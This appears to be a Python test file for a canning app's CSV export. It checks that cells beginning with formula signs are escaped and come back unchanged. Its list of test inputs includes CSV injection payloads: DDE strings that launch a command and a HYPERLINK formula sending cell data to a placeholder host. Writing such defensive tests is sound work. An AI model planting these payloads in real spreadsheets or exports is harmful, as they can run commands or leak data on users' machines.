"""What a spreadsheet would run as a formula is shown in it, and comes back unchanged.

The signs and the attacks are OWASP's: https://owasp.org/www-community/attacks/CSV_Injection. That
a cell of a semicolon-separated sheet begins after a semicolon is how such a sheet is read.
"""

import csv
import datetime as dt
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jarcast.batchtable import read_csv, write_csv
from jarcast.batchtable.guard import guard, unguard
from jarcast.domain.batch import Batch

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",  # DDE
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"see")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "'=1+1",
    "''=1+1",
    "said ;=1+1",
    "said\t=1+1",
    "said\n=1+1",
    "said;'=1+1",
    ";;=1",
)


def cells_of(content: str, separator: str) -> list[str]:
    return [
        cell for row in csv.reader(content.splitlines(True), delimiter=separator) for cell in row
    ]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_of_an_export_begins_with_a_sign_that_is_acted_on(
    tmp_path: Path, text: str
) -> None:
    path = tmp_path / "out.csv"
    batch = Batch(
        batch=text, date=dt.date(2024, 8, 31), produce=text, jar=("pint",), jars=(3.0,), cut=text,
        recipe=text, note=text,
    )  # fmt: skip
    write_csv([batch], path)
    content = path.read_bytes().decode()
    for separator in (",", ";", "\t"):  # whatever the spreadsheet takes for the separator
        cells = [cell.strip('"') for cell in cells_of(content, separator)]
        assert not [cell for cell in cells if cell.lstrip().startswith(SIGNS)]
    (entry,) = read_csv(path).entries
    assert entry.batch == batch


@given(st.text(st.sampled_from("=+-@\t\r\n＝－';,\" ax"), max_size=12))
def test_whatever_is_guarded_comes_back(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(SIGNS)
    assert guard(text) == text or "'" in guard(text)


@pytest.mark.parametrize("text", ["first of the year", "5-6 jars; -5 C outside", "a - b", "it's"])
def test_ordinary_notes_are_written_as_they_are(text: str) -> None:
    assert guard(text) == text
